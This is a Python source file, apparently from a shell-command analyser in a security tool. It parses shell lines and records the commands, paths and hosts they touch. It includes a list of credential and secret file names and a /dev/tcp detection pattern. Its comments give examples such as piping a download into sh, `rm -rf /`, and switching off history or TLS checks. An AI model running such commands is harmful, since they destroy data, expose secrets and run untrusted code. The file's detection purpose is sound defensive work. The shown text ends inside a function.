"""Shell analysis: every simple command a line would run, and the paths, hosts and data it touches.

Built on tree-sitter-bash (a real parser, ~3-10 µs per line, tolerant of broken input) rather than bashlex
(80-280 µs, fails on many constructs). The syntax tree is flattened into `Command` records: pipelines, lists,
subshells, substitutions, heredocs, wrappers (`sudo`, `env`, `timeout`...), nested shells (`bash -c`, `eval`),
`xargs`, `find -exec`, interpreter one-liners and payloads that decode (base64, hex) before reaching a shell
are all unwrapped, so a rule sees `rm` however it was spelled. Words are evaluated statically: quotes and
escapes removed, `$IFS` read as a separator, variables assigned earlier in the line substituted, simple
`echo`/`printf` substitutions computed. Anything that cannot be resolved makes the analysis `opaque`, with a
note saying why: it is never guessed to be harmless.

Globs: an unquoted glob operand contributes (a) its matches on disk (a bounded number of directory
listings), (b) a representative path for every well-known sensitive name the pattern could match
(`./.e*` -> `./.env`; a leading `*` never stands for a dotfile, as in bash), so path rules match it without
knowing about globs, (c) the pattern itself as a path when no component starts with a wildcard
(`protected.*`, for fnmatch against protected names) and (d) a note `glob:<canonical pattern>`.

Where tree-sitter-bash and bash disagree: a line that fails to parse is retried once with bash-equivalent
rewrites (trailing backslash, `for x; do`, unterminated heredoc); words a long pipeline wrongly pulls across a
newline (upstream issue #347) are split back into their own command; non-ASCII bytes are parsed as word
bytes (the scanner can crash on some code points). Plain lines (no quoting, expansion or operators) skip
the parser.

`analyse()` never raises; depth, node count, glob listings and line length are bounded.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import dataclasses
import fnmatch
import functools
import os
import re
import shlex
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field, replace
from itertools import islice
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote

from limen.facts.programs import (
    CHECKS_OFF_VARIABLES,
    CODE_LOADING_VARIABLES,
    COMMAND_VARIABLES,
    ENVIRONMENT_VARIABLE,
    FILE_SERVERS,
    FOLDER_SCRIPTS,
    GIT_COMMAND_KEYS,
    GIT_HOOK_KEYS,
    HTTPIE_NAMES,
    NOT_PRODUCTION,
    PRODUCTION,
    PROGRAMS,
    SCRATCH_RESOURCE,
    SETTING_ONLY_OPTIONS,
    SHELL_LOADERS,
    Program,
    Role,
    changes_what_runs,
    git_protection_off,
    git_value_concerns,
    has,
    history_off,
    names,
    names_deployment,
    options,
    prints_setup,
    program,
    runs_arguments,
    runs_value,
    verifies,
)
from limen.facts.programs import operands as _operands
from limen.model import FETCHED, FETCHED_FILE, IGNORED_CHECK, RUNS_FILE, Command, Destination
from limen.normalize.code import BUILT_COMMAND, FOLLOWED_SOCKET, SCRATCH_DATABASE_NOTE, read_source
from limen.normalize.paths import canonical, is_within, read_regular

if TYPE_CHECKING:
    from tree_sitter import Node, Parser

MAX_LINE = 64 * 1024  # longer lines are analysed up to here and marked opaque
MAX_NODES = 20_000  # syntax nodes visited per analysis, all nesting levels together
MAX_DEPTH = 60  # syntax nesting (each level costs a few Python frames)
MAX_LEVEL = 6  # re-parsed strings: bash -c inside eval inside base64 ...
MAX_COMMANDS = 500
MAX_NOTES = 512
MAX_LOOP_VALUES = 32  # `for x in a b c`: the body is analysed once per value; past this, opaque
MAX_GLOB_MATCHES = 32

_SPLIT = "\x00"  # marks where an unquoted expansion splits a word into fields

# What each command does comes from the program table (`limen.facts.programs`), asked by role.
SHELLS = names(Role.SHELL)
INTERPRETERS = names(Role.INTERPRETER)
UNANALYSED_SCRIPT = names(Role.SCRIPT_HOST)
# Commands whose output may be data fetched from the network (piped into a shell, it is download-and-execute).
DOWNLOADERS = names(Role.DOWNLOADS)
_TEXT_ONLY = names(Role.TEXT_ONLY)

# Names a glob is checked against so that `cat .e*` counts as touching `.env`.
GLOB_PROBES = (
    ".env",
    ".envrc",
    ".env.local",
    ".env.production",
    ".netrc",
    ".npmrc",
    ".pypirc",
    ".pgpass",
    ".git-credentials",
    ".ssh",
    ".aws",
    ".gnupg",
    ".kube",
    ".docker",
    ".config",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    "id_dsa",
    "authorized_keys",
    "known_hosts",
    "credentials",
    "config",
    "config.json",
    "secrets.yaml",
    "secrets.json",
    "shadow",
    "passwd",
    "sudoers",
    ".bash_history",
    ".bashrc",
    ".zshrc",
    ".profile",
    ".bash_profile",
    "private.pem",
    "server.key",
    ".git",
    "hooks",
    "crontab",
    "cron.d",
    "settings.json",
    "hooks.json",
    ".limen",
    ".claude",
    "limen.yaml",
)

_parser: Parser | None = None


def _get_parser() -> Parser:
    global _parser
    if _parser is None:
        import tree_sitter_bash
        from tree_sitter import Language, Parser

        _parser = Parser(Language(tree_sitter_bash.language()))
    return _parser


@dataclass(slots=True, frozen=True)
class ShellAnalysis:
    commands: tuple[Command, ...] = ()
    paths: tuple[str, ...] = ()  # canonical paths the line reads or writes
    write_paths: tuple[str, ...] = ()  # canonical paths it writes, deletes or redirects into
    destinations: tuple[Destination, ...] = ()
    payloads: tuple[str, ...] = ()  # literal data the line sends or writes (echo text, -d bodies, heredocs)
    opaque: bool = False
    notes: tuple[str, ...] = ()


def quote(word: str) -> str:
    return shlex.quote(word)


@dataclass(slots=True)
class _Word:
    """A word after static evaluation: its fields, whether a part was unknown, whether it globs."""

    fields: list[str]
    dynamic: bool = False
    glob: bool = False
    source: str = ""


@dataclass(slots=True)
class _Stream:
    """What flows into a command's stdin: the static text if known, and the commands it came from."""

    text: str | None
    sources: tuple[str, ...] = ()
    decoders: tuple[str, ...] = ()


@dataclass(slots=True)
class _State:
    cwd: str
    home: str
    vars: dict[str, str | None] = field(default_factory=dict)
    arrays: dict[str, list[str] | None] = field(default_factory=dict)  # `a=(x y)`: None when not known
    commands: list[Command] = field(default_factory=list)
    paths: list[str] = field(default_factory=list)
    write_paths: list[str] = field(default_factory=list)
    destinations: list[Destination] = field(default_factory=list)
    payloads: list[str] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    downloaded: set[str] = field(default_factory=set)
    # variables assigned what a download printed (`c=$(curl -s URL)`): run, they run downloaded code
    downloaded_vars: set[str] = field(default_factory=set)
    # folders a downloaded archive was unpacked into (`curl URL | tar xz -C /tmp`): what runs from them is
    # code the line downloaded
    unpacked: set[str] = field(default_factory=set)
    cloned: set[str] = field(default_factory=set)  # folders a `git clone` in the line fills
    globbed: set[tuple[str, bool]] = field(default_factory=set)  # (pattern, as a write)
    written: dict[str, str | None] = field(default_factory=dict)  # files the line wrote: content if known
    appended: set[str] = field(default_factory=set)  # redirected to with `>>`: added to, not emptied
    # loop variables over a printed list (`for f in $(git ls-files)`): unknown, but named by the list
    listed: dict[str, str] = field(default_factory=dict)
    dynamic_words: set[str] = field(default_factory=set)
    # where the file descriptor of a redirect starts when tree-sitter-bash left it among the command's
    # words (`sh 0<&2` parses as `sh 0` and `<&2`): not an argument
    descriptors: set[tuple[int, int]] = field(default_factory=set)  # (the source's id, the byte)
    functions: dict[str, tuple[Node, _Src]] = field(default_factory=dict)  # defined earlier in the line
    calling: set[str] = field(
        default_factory=set
    )  # functions being expanded (recursion guard)  # fields whose value is only known at run time
    opaque: bool = False
    deferred: int = 0  # > 0 in an alias body (maybe never run) or an ssh remote line (runs elsewhere)
    nodes: int = 0
    stopped: bool = False

    def flag(self, note: str) -> None:
        """Mark the analysis opaque, saying why (code that only may run later, an alias body, just notes)."""
        self.opaque = self.opaque or not self.deferred
        self.note(note)

    def note(self, note: str) -> None:
        """Keep a note; past 64, glob notes are dropped (their paths are kept), and past 512 the line is
        opaque: a note a rule needs is never silently lost."""
        if note in self.notes or (len(self.notes) >= 64 and note.startswith("glob:")):
            return
        if len(self.notes) >= MAX_NOTES:
            self.opaque = self.opaque or not self.deferred
            if "too many notes" not in self.notes:
                self.notes.append("too many notes")
            return
        self.notes.append(note)


def analyse(line: str, *, cwd: str, home: str) -> ShellAnalysis:
    """Flatten a shell line into the commands it runs and what they touch. Never raises."""
    state = _State(cwd=cwd or "/", home=home or "/")
    try:
        if not isinstance(line, str):
            raise TypeError("line is not a string")
        if len(line) > MAX_LINE:
            state.flag("line too long")
            line = line[:MAX_LINE]
        _analyse_text(line, state, via=(), level=0)
    except RecursionError:
        state.flag("nesting too deep")
    except Exception as exc:  # the analyser must never raise into normalisation
        state.flag(f"analysis failed: {type(exc).__name__}")
    fetched = sorted(p for p in (*state.downloaded, *state.cloned) if p.startswith("/"))[:16]
    return ShellAnalysis(
        commands=tuple(state.commands),
        paths=tuple(dict.fromkeys(state.paths)),
        write_paths=tuple(dict.fromkeys(state.write_paths)),
        destinations=tuple(dict.fromkeys(state.destinations)),
        payloads=tuple(dict.fromkeys(p for p in state.payloads if p)),
        opaque=state.opaque,
        notes=(
            *state.notes,
            *(FETCHED_FILE + p for p in fetched),
            *(APPENDED + p for p in sorted(state.appended)[:16]),
        ),
    )


# --------------------------------------------------------------------------- parsing and walking


class _Src:
    """The bytes a tree was parsed from, with text access by node."""

    __slots__ = ("data",)

    def __init__(self, data: bytes) -> None:
        self.data = data

    def text(self, node: Node) -> str:
        return self.data[node.start_byte : node.end_byte].decode("utf-8", "replace")


def _analyse_text(
    text: str,
    state: _State,
    *,
    via: tuple[str, ...],
    level: int,
    lenient: bool = False,
    stdin: _Stream | None = None,
) -> None:
    """Parse `text` as shell and walk it. `lenient` (interpreter fragments) ignores parse errors."""
    if level > MAX_LEVEL:
        state.flag("nested shell strings deeper than the bound")
        return
    if state.stopped or not text.strip():
        return
    if (
        level == 0
        and stdin is None
        and _PLAIN.fullmatch(text)
        and "=" not in (first := text.split(None, 1)[0])
        and first not in _DECLARATIONS  # `export X=1` assigns: parsed, so its assignment is read
    ):
        _run(text.split(), state, via, level, None)  # fast path: no quoting, expansion or operators to parse
        return
    stages = _plain_stages(text) if level == 0 and stdin is None and "|" in text else None
    if stages is not None:
        _plain_pipeline(stages, state, via, level)
        return
    if "\\\n" in text:  # a backslash-newline vanishes before bash splits words: `r\<newline>m` is `rm`
        text = _CONTINUATION.sub(r"\1", text)
    if "\ufffd" in text or _SURROGATE.search(text):
        state.flag("invalid unicode in command")
    data, root = _parse(text)
    if root.has_error:
        compatible = _bash_compatible(text)
        if compatible != text:
            retry_data, retry_root = _parse(compatible)
            if not retry_root.has_error:
                text, data, root = compatible, retry_data, retry_root
    if root.has_error and not lenient:
        state.flag("unparsable shell syntax")
        for match in _DEV_TCP.finditer(text):  # what the broken part would reach, parsed or not
            _dev_tcp(match.group(0), state)
    _walk(root, _Src(data), state, via, level, 0, stdin)


def _plain_stages(text: str) -> list[list[str]] | None:
    """`curl URL | sh`: the stages of a pipeline of plain ASCII words (no quoting, expansion, assignment or
    other operator), which need no parser; None for anything else."""
    if len(text) > 4096 or not _PLAIN_PIPELINE.fullmatch(text):
        return None
    stages = [stage.split() for stage in text.split("|")]
    if len(stages) > MAX_PLAIN_STAGES or any("=" in s[0] or s[0] in _SYNTAX_NAMES for s in stages):
        return None
    return stages


def _plain_pipeline(stages: list[list[str]], state: _State, via: tuple[str, ...], level: int) -> None:
    """What `_walk` does with such a pipeline's tree (program > pipeline > command > word nodes): the same
    node count, the same commands, the same stdin provenance from stage to stage."""
    if not (_tick(state, 0) and _tick(state, 1)):
        return
    stream: _Stream | None = None
    starts = []
    for argv in stages:
        out = None
        starts.append(len(state.commands))
        if _tick(state, 2):
            for _ in argv:
                _tick(state, 3)
            out = _run(argv, state, via, level, stream)
        stream = _next_stream(stream, out, state)
    _hide_counted(state, starts)


def _parse(text: str) -> tuple[bytes, Node]:
    data = text.encode("utf-8", "replace")
    # tree-sitter-bash's scanner can crash on some non-ASCII code points ('{' then U+F8FC2). Bash only
    # splits on ASCII, so every non-ASCII byte parses as a word byte; offsets still index the original `data`.
    tree = _get_parser().parse(data.translate(_ASCII_ONLY) if not data.isascii() else data)
    return data, tree.root_node


_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/[^/\s;&|<>]+/\d+")
_ASCII_ONLY = bytes(range(128)) + b"_" * 128
_PLAIN = re.compile(r"\s*[\w./:@%+,-][\w./:=@%+,-]*(?:[ \t]+[\w./:=@%+,-]+)*\s*")
_SURROGATE = re.compile("[\ud800-\udfff]")
_PLAIN_WORD = r"[\w./:+,-][\w./:=+,-]*"  # no `@` or `%`: tree-sitter-bash misreads some of those
_PLAIN_NAME = r"[\w./][\w./-]*"  # nor `+:` or a leading `-` in a command name
_PLAIN_STAGE = rf"[ \t]*{_PLAIN_NAME}(?:[ \t]+{_PLAIN_WORD})*[ \t]*"
_PLAIN_PIPELINE = re.compile(rf"{_PLAIN_STAGE}(?:\|{_PLAIN_STAGE})+", re.ASCII)
MAX_PLAIN_STAGES = 16
# Names tree-sitter-bash reads as syntax (or as declarations) at the start of a pipeline stage.
_SYNTAX_NAMES = frozenset(
    {
        *(
            "if",
            "then",
            "else",
            "elif",
            "fi",
            "case",
            "esac",
            "for",
            "select",
            "while",
            "until",
            "do",
            "done",
        ),
        *("function", "time", "coproc", "in", "export", "declare", "local", "readonly", "typeset"),
        *("unset", "unsetenv"),
    }
)
_DECLARATIONS = frozenset({"export", "declare", "typeset", "local", "readonly"})
_CONTINUATION = re.compile(r"(?<!\\)((?:\\\\)*)\\\n")


_BRACE_COMMAND = re.compile(
    r"((?:^|[;&|(]|\$\()\s*)(\{[^{}\s'\"`$;&|()]*,[^{}\s'\"`$;&|()]*\})(?=[\s;&|)]|$)", re.M
)
_TRAILING_BACKSLASH = re.compile(r"(?<!\\)((?:\\\\)*)\\\s*$")
_FOR_WITHOUT_IN = re.compile(r"\bfor(\s+)([A-Za-z_]\w*)(\s*;\s*|\s+)do\b")
_HEREDOC_START = re.compile(r"<<-?\s*(['\"]?)\\?([A-Za-z_]\w*)\1")


# `tmux attach -t <session name>`, `yes | <command>`: a documentation placeholder where a command ends. Bash
# reads `<word` then a `>` with no target, a syntax error, so the line runs nothing; analysing it with the
# placeholder as a plain word (rather than opaque) only adds what the words would do.
_PLACEHOLDER = re.compile(
    r"(?<![<\S])<([A-Za-z][\w.-]*(?: [A-Za-z][\w.-]*){0,3})>(?=[ \t]*(?:$|[|;&)\n]))", re.M
)


# An extended glob (`!(*.c)`, `@(a|b)`, `+(x)`: bash's extglob, zsh's ksh_glob), read as the `*` it at most
# matches: what it names is judged as every name of the folder, which is never less than it touches.
_EXTGLOB = re.compile(r"(?<![$\\'\"=])[!@+?*]\([^()\s'\"$`;&<>]*\)")


# What may follow a `$` that starts an expansion: a name, a digit, a special parameter, `{`, `(`, `[` (the old
# `$[1+2]`), and `'`/`"` (`$'\n'`, `$"msg"`); any other `$` is a literal character to bash
_EXPANSION_START = re.compile(r"[A-Za-z0-9_{(\[@*#?$!'\"-]")


def _literal_dollars(text: str) -> str:
    r"""Every `$` outside single quotes that starts no expansion written `\$`, which bash reads as the same
    literal `$` unquoted, in double quotes and in backquotes (tree-sitter-bash rejects `a$/b`)."""
    out: list[str] = []
    quote = ""
    i, end = 0, len(text)
    while i < end:
        char = text[i]
        if quote == "'":
            quote = "" if char == "'" else quote
        elif char == "\\":
            out.append(text[i : i + 2])
            i += 2
            continue
        elif char == "'" and not quote:
            quote = "'"
        elif char == '"':
            quote = "" if quote else '"'
        elif char == "$" and not _EXPANSION_START.match(text, i + 1):
            out.append("\\$")
            i += 1
            continue
        out.append(char)
        i += 1
    return "".join(out)


def _bash_compatible(text: str) -> str:
    r"""Rewrite what bash accepts but tree-sitter-bash rejects, without changing what runs (on errors only).

    A trailing lone backslash (bash: a literal `\`), `for x; do` (bash: `for x in "$@"; do`), a heredoc
    whose terminator line never comes (bash: ends at end of input), `<placeholder>` (see above), a
    brace expansion where a command starts (`{rm,-rf,/}`: bash expands it into the words `rm -rf /`) and an
    extended glob (`ls !(*.o)`: read as `*`), a `$` that starts no expansion (`grep total$.`, `` `grep
    .php$` ``: bash's literal `$`, written `\$`)."""
    if "$" in text:
        text = _literal_dollars(text)
    if "{" in text and "," in text:
        text = _BRACE_COMMAND.sub(lambda m: m.group(1) + " ".join(_braces(m.group(2))), text)
    if text.rstrip().endswith("\\"):
        text = _TRAILING_BACKSLASH.sub(r"\1", text)
    if "for" in text:
        text = _FOR_WITHOUT_IN.sub(lambda m: f'for{m.group(1)}{m.group(2)} in "$@"; do', text)
    if "<" in text and ">" in text:
        text = _PLACEHOLDER.sub(lambda m: m.group(1).replace(" ", "_"), text)
    if "<<" in text:
        for match in _HEREDOC_START.finditer(text):
            delimiter = match.group(2)
            if not re.search(rf"^\s*{delimiter}\s*$", text[match.end() :], re.M):
                text = text.rstrip("\n") + f"\n{delimiter}\n"
    for _ in range(4):  # innermost first: `!(*@(.c|.h))`
        if "(" not in text:
            break
        text, count = _EXTGLOB.subn("*", text)
        if not count:
            break
    return text


def _tick(state: _State, depth: int) -> bool:
    """Count a node; False (and opaque) once the work or depth bound is reached."""
    state.nodes += 1
    if state.nodes > MAX_NODES or len(state.commands) > MAX_COMMANDS:
        if not state.stopped:
            state.flag("analysis budget exhausted")
        state.stopped = True
        return False
    if depth > MAX_DEPTH:
        state.flag("nesting too deep")
        return False
    return not state.stopped


_COMMENT_OR_PUNCT = frozenset({"comment", "heredoc_start", "heredoc_end", "file_descriptor"})


def _walk(
    node: Node,
    src: _Src,
    state: _State,
    via: tuple[str, ...],
    level: int,
    depth: int,
    stdin: _Stream | None = None,
) -> _Stream | None:
    """Visit one statement-level node; returns what it writes to stdout when that is statically known."""
    if not _tick(state, depth):
        return None
    kind = node.type
    if kind == "command":
        return _command(node, src, state, via, level, depth, stdin, ())
    if kind == "redirected_statement":
        return _redirected(node, src, state, via, level, depth, stdin)
    if kind == "pipeline":
        return _pipeline(node, src, state, via, level, depth, stdin)
    if kind == "variable_assignment":
        _assign(node, src, state, via, level, depth)
        return None
    if kind == "declaration_command":
        _declaration(node, src, state, via, level, depth)
        return None
    if kind == "function_definition":
        fname = node.child_by_field_name("name")
        body = node.child_by_field_name("body")
        if fname is not None and body is not None:
            state.functions[src.text(fname)] = (body, src)
        if body is not None:  # analysed once as written, and again at each call with its arguments
            _walk(body, src, state, (*via, "function"), level, depth + 1)
        return None
    if kind == "for_statement":
        var = node.child_by_field_name("variable")
        values: list[str] = []
        known = True
        for child in node.children_by_field_name("value"):
            word = _eval(child, src, state, via, level, depth + 1)
            if word.glob:
                _add_glob(word, state)  # `for f in *.dat; do rm $f` touches what the glob matches
            _add_path_operands(word, state)
            values.extend(word.fields)
            # a glob's pattern stands for each of its matches (`for d in ~/projects/*; do rm -rf "$d"`)
            known = known and not word.dynamic
        body = node.child_by_field_name("body")
        # `for d in / ~; do rm -rf $d; done`: the body once per known value; values that differ only in
        # their numbers (`{1..100}`) once per shape; past the bound the loop is opaque.
        distinct = list({re.sub(r"\d+", "0", v): v for v in values}.values()) if known else []
        if (
            var is not None
            and known
            and len(values) > 1
            and len(distinct) <= MAX_LOOP_VALUES
            and body is not None
        ):
            for value in distinct if len(values) > MAX_LOOP_VALUES else values:
                state.vars[src.text(var)] = value
                _walk(body, src, state, via, level, depth + 1)
            return None
        if var is not None and known and len(distinct) > MAX_LOOP_VALUES:
            state.flag("loop over more values than the bound")
        if var is not None:  # a single literal value is known in the body; anything else is not
            state.vars[src.text(var)] = values[0] if known and len(values) == 1 else None
            if (listed := _listed(node, src)) is not None:
                state.listed[src.text(var)] = listed
        if body is not None:
            _walk(body, src, state, via, level, depth + 1)
        return None
    if kind in ("command_substitution", "process_substitution"):
        _substitution(node, src, state, via, level, depth)
        return None
    if (
        kind == "while_statement"
        and stdin is not None
        and _while_read(node, src, state, via, level, depth, stdin)
    ):
        return None
    if kind in ("file_redirect", "herestring_redirect", "heredoc_redirect"):
        _redirect(node, src, state, via, level, depth, [], None)  # `$(<file)` reads the file
        return None
    if kind == "unset_command":
        names = tuple(src.text(c) for c in node.named_children)
        for unset_name in names:
            state.vars[unset_name] = ""
            _limen_variable(unset_name, state)
        _record(state, Command(argv=("unset", *names), name="unset", via=via))
        return None
    if kind == "ERROR":
        state.flag("unparsable shell syntax")
    out: _Stream | None = None
    recorded: list[tuple[Node, int, int]] = []  # (a list's part, the commands it recorded: from, to)
    for child in node.named_children:
        if child.type in _COMMENT_OR_PUNCT:
            continue
        if kind == "list":
            recorded.append((child, len(state.commands), len(state.commands)))
        if child.type in (
            "word",
            "string",
            "raw_string",
            "concatenation",
            "simple_expansion",
            "expansion",
            "number",
            "ansi_c_string",
        ):
            # Words in conditions, case patterns, test expressions: evaluate for nested substitutions.
            _eval(child, src, state, via, level, depth + 1)
            continue
        out = _walk(
            child,
            src,
            state,
            via,
            level,
            depth + 1,
            stdin if kind in ("subshell", "compound_statement") else None,
        )
        if kind == "list":
            recorded[-1] = (child, recorded[-1][1], len(state.commands))
    if kind == "list" and len(recorded) == 2:
        _check_ignored(node, recorded, src, state)
    return out if kind in ("subshell", "compound_statement", "program") else None


# What a failed command's `||` may fall back to without failing in its turn
_SUCCEEDS = re.compile(r"(?:true|:|echo\b.*|printf\b.*|(?:exit|return)(?:\s+0)?)\s*;?")


def _check_ignored(node: Node, parts: list[tuple[Node, int, int]], src: _Src, state: _State) -> None:
    """`gpg --verify x.asc x || true`, `sha256sum -c SUMS || echo skipped`: a signature or checksum check
    whose failure the line turns into success: the check no longer stops anything (`ignored_check:` note)."""
    operator = next((c.type for c in node.children if not c.is_named), "")
    (_, start, end), (fallback, _, _) = parts
    if operator != "||" or not _SUCCEEDS.fullmatch(src.text(fallback).strip()):
        return
    for command in state.commands[start:end]:
        if verifies(command.argv):
            state.note(f"{IGNORED_CHECK}{command.name}")
            return


def _while_read(
    node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int, stdin: _Stream
) -> bool:
    """`echo / | while read d; do rm -rf $d; done`: over known input, `read` takes each line in turn and
    the body runs once per line (lines differing only in their numbers once); False if not that shape."""
    condition = node.child_by_field_name("condition")
    body = node.child_by_field_name("body")
    if condition is None or body is None or condition.type != "command":
        return False
    if src.text(condition).split(None, 1)[0] != "read" or stdin.text is None:
        return False
    lines = [line for line in stdin.text.split("\n") if line.strip()]
    distinct = list({re.sub(r"\d+", "0", line): line for line in lines}.values())
    if len(distinct) > MAX_LOOP_VALUES:
        state.flag("loop over more values than the bound")
        return False
    for line in lines if len(lines) <= MAX_LOOP_VALUES else distinct:
        _walk(condition, src, state, via, level, depth + 1, _Stream(line + "\n", stdin.sources))
        _walk(body, src, state, via, level, depth + 1)
    return True


def _substitution(node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int) -> None:
    label = "<()" if node.type == "process_substitution" else "$()"
    for child in node.named_children:
        _walk(child, src, state, (*via, label), level, depth + 1)


def _assign(node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int) -> None:
    name = node.child_by_field_name("name")
    value = node.child_by_field_name("value")
    if name is None:
        return
    if value is None:
        state.vars[src.text(name)] = ""
        return
    if value.type == "array":  # `a=(rm -rf ~)`, `a+=(x)`: the elements, as bash splits them
        _assign_array(node, src.text(name), value, src, state, via, level, depth)
        return
    word = _eval(value, src, state, via, level, depth + 1, quoted=True)
    state.vars[src.text(name)] = None if word.dynamic else "".join(word.fields)
    state.arrays.pop(src.text(name), None)
    _limen_variable(src.text(name), state)
    if word.dynamic and _from_download(src.text(value), state):
        state.downloaded_vars.add(src.text(name))
    if src.text(name) in COMMAND_VARIABLES and not word.dynamic:
        _command_variable(src.text(name), "".join(word.fields), state, via, level)
    if src.text(name) in CODE_LOADING_VARIABLES:
        _code_loading_variable(src.text(name), None if word.dynamic else "".join(word.fields), state)
    if not word.dynamic and history_off(src.text(name), "".join(word.fields)):
        state.note(f"assign:{src.text(name)}")  # `HISTFILE=/dev/null`, `HISTSIZE=0`
    _checks_off(src.text(name), None if word.dynamic else "".join(word.fields), state)
    if not word.dynamic:
        _endpoint_variable(src.text(name), word.fields, state)
    if not word.dynamic:
        _add_path_operands(word, state)


# Variables that name the server a program sends its requests to (`HF_ENDPOINT`, `WANDB_BASE_URL`,
# `OPENAI_API_BASE`)
_ENDPOINT_VARIABLE = re.compile(r"(?:^|_)(?:ENDPOINT(?:_URL)?|BASE_URL|API_(?:URL|BASE|HOST)|SERVER_URL)$")


def _endpoint_variable(name: str, fields: list[str], state: _State) -> None:
    """`HF_ENDPOINT=https://mirror.example huggingface-cli whoami`: the server a program sends its requests
    to, with the credentials it holds for them; a service's own host (the issuer of those credentials) is
    no new destination."""
    if not _ENDPOINT_VARIABLE.search(name):
        return
    from limen.facts.hosts import issuers_for_host
    from limen.normalize import net

    for value in fields:
        found = net.destinations_in_text(value, via_command=f"${name}") if "://" in value else []
        state.destinations.extend(d for d in found if not issuers_for_host(d.host))


def _checks_off(name: str, value: str | None, state: _State) -> None:
    """A variable set to switch a download check off (`GOSUMDB=off`, `NODE_TLS_REJECT_UNAUTHORIZED=0`,
    `GIT_SSL_NO_VERIFY=1`, the table's `CHECKS_OFF_VARIABLES`): noted as a control switched off."""
    pattern = CHECKS_OFF_VARIABLES.get(name)
    if pattern is not None and value is not None and re.fullmatch(pattern, value.strip()):
        from limen.normalize.tools import CONTROL_OFF

        state.note(f"{CONTROL_OFF}{name}={value[:40]} switches a check off")


def _assign_array(
    node: Node,
    name: str,
    value: Node,
    src: _Src,
    state: _State,
    via: tuple[str, ...],
    level: int,
    depth: int,
) -> None:
    elements: list[str] | None = []
    for child in value.named_children:
        word = _eval(child, src, state, via, level, depth + 1)
        if word.glob:
            _add_glob(word, state)
        _add_path_operands(word, state)
        if word.dynamic or elements is None:
            elements = None
        else:
            elements.extend(word.fields)
    if any(c.type == "+=" for c in node.children) and elements is not None:
        before = state.arrays.get(name, [v] if (v := state.vars.get(name)) else [])
        elements = None if before is None else [*before, *elements]
    state.arrays[name] = elements
    state.vars[name] = None if elements is None else (elements[0] if elements else "")


def _command_variable(name: str, value: str, state: _State, via: tuple[str, ...], level: int) -> None:
    """`GIT_SSH_COMMAND='...'`, `PAGER=...`, `LESSOPEN='|cmd %s'`: a variable whose value a program runs
    as a command line, analysed as one."""
    text = value.lstrip("|").replace("%s", "FILE").strip()
    if text:
        _shell_string(text, state, via, level, False, f"${name}")


def _code_loading_variable(name: str, value: str | None, state: _State) -> None:
    """`LD_PRELOAD=/tmp/x.so ls`, `NODE_OPTIONS=--require ./hook.js npm test`, `BASH_ENV=./x.sh bash -c ...`:
    code loaded into what runs, which the line does not show; opaque unless the value only sets options."""
    if value is not None and not value.strip():
        return
    if value is not None and all(w.startswith(SETTING_ONLY_OPTIONS) for w in value.split()):
        return
    state.flag(f"${name} loads code into the commands it starts")


def _declaration(node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int) -> None:
    argv: list[str] = []
    nameref = False
    for child in node.named_children:
        if child.type == "variable_assignment":
            _assign(child, src, state, via, level, depth)
            argv.append(src.text(child))
            name = child.child_by_field_name("name")
            if nameref and name is not None:  # `declare -n r=HOME`: `$r` is `$HOME`
                target = state.vars.get(src.text(name)) or ""
                named = state.vars.get(target) if target in state.vars else None
                state.vars[src.text(name)] = state.home if target == "HOME" and named is None else named
        else:
            words = _eval(child, src, state, via, level, depth + 1).fields
            nameref = nameref or any(re.fullmatch(r"-[a-zA-Z]*n[a-zA-Z]*", w) for w in words)
            argv.extend(words)
    head = src.text(node).split(None, 1)[0] if src.text(node).strip() else "declare"
    _record(state, Command(argv=(head, *argv), name=head, via=via))


def _redirected(
    node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int, stdin: _Stream | None
) -> _Stream | None:
    body = node.child_by_field_name("body")
    while body is not None and body.type == "list":
        # tree-sitter-bash reads `cd d && echo x > f` as `(cd d && echo x) > f`; bash binds the redirect to
        # the last command, after the others ran: run them first so `f` resolves in the directory `cd` set.
        parts = [c for c in body.named_children if c.type not in _COMMENT_OR_PUNCT]
        if not parts:
            break
        for child in parts[:-1]:
            _walk(child, src, state, via, level, depth + 1)
        body = parts[-1]
    redirects: list[str] = []
    after: list[Node] = []
    if body is not None and body.type == "command" and body.named_child_count:
        last = body.named_children[-1]
        first = next((c for c in node.children if c.type == "file_redirect"), None)
        if last.type == "number" and first is not None and last.end_byte == first.start_byte:
            state.descriptors.add((id(src), last.start_byte))
    words_after: list[Node] = []
    for redirect in node.children:  # by type: tree-sitter-bash leaves a herestring out of the field
        if redirect.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
            stdin = _redirect(redirect, src, state, via, level, depth, redirects, stdin, after, words_after)
    # (tree-sitter-bash gives `a | b > f more` the whole pipeline's redirection: bash, its last command's)
    receiver = body.named_children[-1] if body is not None and body.type == "pipeline" else body
    if words_after and (receiver is None or receiver.type != "command"):
        state.flag("words follow a redirection of something that is not a simple command")
    if body is None:  # `> file` alone: the null command truncating its target
        if redirects:
            _record(state, Command(argv=(":",), name=":", via=via, redirects=tuple(redirects)))
            _record_emptied(state, [r for r in redirects if r not in state.appended], via)
        return None
    if body.type == "command":
        # tree-sitter-bash drops a lone `-` before a heredoc (`make -f - <<EOF`, `cat - <<EOF`): put it back
        heredoc = next((c for c in node.children if c.type == "heredoc_redirect"), None)
        gap = src.data[body.end_byte : heredoc.start_byte].split() if heredoc is not None else []
        trailing = tuple(w.decode() for w in gap) if gap and all(w == b"-" for w in gap) else ()
        for extra in words_after:  # `cmd 2>/dev/null more args`: bash hands `more args` to cmd
            trailing += tuple(_eval(extra, src, state, via, level, depth + 1).fields)
        recorded = len(state.commands)
        out = _command(body, src, state, via, level, depth + 1, stdin, tuple(redirects), trailing)
        if _discards_output(node, src):  # `sops -d s.yaml >/dev/null && echo ok`: it shows nothing
            for i in range(recorded, len(state.commands)):
                command = state.commands[i]
                if "$()" not in command.via and "<()" not in command.via:
                    state.commands[i] = dataclasses.replace(command, output_hidden=True)
    else:
        recorded = len(state.commands)
